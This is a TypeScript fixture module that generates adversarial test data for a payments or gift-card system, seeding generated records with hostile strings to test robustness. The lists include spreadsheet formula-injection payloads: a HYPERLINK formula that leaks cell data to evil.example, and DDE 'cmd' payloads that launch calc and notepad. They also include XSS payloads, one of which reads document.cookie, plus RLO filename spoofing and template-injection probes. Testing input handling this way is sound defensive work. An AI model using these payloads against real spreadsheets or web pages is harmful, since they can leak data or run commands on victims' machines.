/**
 * Hostile strings for the --adversarial option: spreadsheet formulas (=, +, -, @, tab and CR
 * starts), very long text, right-to-left scripts and the RLO override, emoji, HTML and script
 * fragments, quotes and line breaks. No NUL characters. Applied to a generated world as a
 * deterministic post-pass, so the rest of the world is the same as without the option.
 */
import type { World } from '../model';
import type { Random } from '../random';
import { exponentOf, majorToMinor } from './common';

export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for balance")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  '@SUM(A1:A9)',
  '\t=1+2 tab-led',
  '\r=1+2 carriage-return-led',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"Double" and \'single\' quotes, back`tick`s & ampersands',
  'First line\nSecond line\r\nThird line',
  'متجر الهدايا العربي',
  'חנות מתנות בעברית',
  'Invoice \u202Efdp.exe',
  'Gifts 🎁🎉 for everyone 👩‍👩‍👧‍👦',
  '</td></tr><tr><td>injected',
  '${7*7} {{7*7}} %s %n',
];

/** Hostile float names, each with a currency; one differs from "Main" only by a trailing space. */
export const HOSTILE_FLOATS: ReadonlyArray<{ name: string; currency: string }> = [
  { name: '=HYPERLINK("http://evil.example","Top up")', currency: 'GBP' },
  { name: '+44 Rewards\t@SUM(A1:A3)', currency: 'EUR' },
  { name: 'مكافآت \u202Eslaoflf 🎁', currency: 'USD' },
  { name: 'Main ', currency: 'GBP' },
  { name: '<b>Ops</b> "float"\nsecond line', currency: 'GBP' },
];

/** Hostile buyer payment references: each at most 18 UTF-16 code units. */
export const HOSTILE_REFERENCES: readonly string[] = [
  '=1+1',
  '+SUM(A1:A2)',
  '-2+3',
  '@SUM(A1)',
  '\t=CMD()',
  '\r=1+1',
  '<b>ref</b>',
  '"quoted" ref',
  "O'Brien; DROP--",
  'ref\nnewline',
  '🎁 gift ref',
  'مرجع الدفع',
  'ref \u202Etxt.exe',
  'שלום ref',
  '<img src=x>',
];

export const LONG_TEXT_LENGTH = 10_000;

export function longText(seedText: string): string {
  const unit = `${seedText} `;
  return unit.repeat(Math.ceil(LONG_TEXT_LENGTH / unit.length)).slice(0, LONG_TEXT_LENGTH);
}

export function applyAdversarial(random: Random, world: World): void {
  // Floats: extra hostile floats, each taking over some requests of its currency.
  for (const hostile of HOSTILE_FLOATS) {
    const exponent = exponentOf(hostile.currency);
    world.floats.push({
      ...hostile,
      exponent,
      availableMinor: majorToMinor(random.int(1_000, 90_000), exponent),
    });
    world.activity?.spend.push({
      float: hostile.name,
      currency: hostile.currency,
      averageMinor: majorToMinor(200, exponent),
    });
  }
  const sameCurrency = world.transfers.filter((t) => HOSTILE_FLOATS.some((f) => f.currency === t.currency));
  for (const transfer of random.sample(
    sameCurrency,
    Math.min(sameCurrency.length, 25 + Math.floor(sameCurrency.length / 50)),
  )) {
    const candidates = HOSTILE_FLOATS.filter((f) => f.currency === transfer.currency);
    transfer.float = random.pick(candidates).name;
  }
  // Payment references: hostile buyer references replace some existing ones (still unique).
  const taken = new Set(world.transfers.map((t) => t.paymentReference));
  const targets = random.sample(world.transfers, HOSTILE_REFERENCES.length);
  for (const [i, transfer] of targets.entries()) {
    const reference = HOSTILE_REFERENCES[i] as string;
    if (taken.has(reference)) continue;
    taken.add(reference);
    transfer.paymentReference = reference;
  }
  // Brands: hostile names, descriptions and terms; one 10,000-character description and terms.
  if (world.brands.length === 0) return;
  const indices = random.sample(
    [...world.brands.keys()],
    Math.min(world.brands.length, HOSTILE_TEXTS.length * 3),
  );
  for (const [i, index] of indices.entries()) {
    const brand = world.brands[index];
    if (!brand) continue;
    const text = HOSTILE_TEXTS[i % HOSTILE_TEXTS.length] as string;
    if (i < HOSTILE_TEXTS.length) brand.name = i % 2 === 0 ? text : `${text} ${brand.name}`;
    else if (i < HOSTILE_TEXTS.length * 2)
      brand.detail.description = `${text} ${brand.detail.description ?? ''}`;
    else brand.detail.terms_and_conditions_copy = `${text}\n${brand.detail.terms_and_conditions_copy ?? ''}`;
  }
  const long = world.brands[indices[0] ?? 0];
  if (long) {
    long.detail.description = longText('Very long description ⚠ ﷽ <b>bold</b> =1+1');
    long.detail.terms_and_conditions_copy = longText(`Terms of ${long.name} apply.\n`);
  }
  // Template versions are opaque strings the client sends back in a query string.
  const [first, second] = world.templates;
  if (first) first.version = `=${first.version}`;
  if (second) second.version = `${second.version}&x=<y> #z`;
}
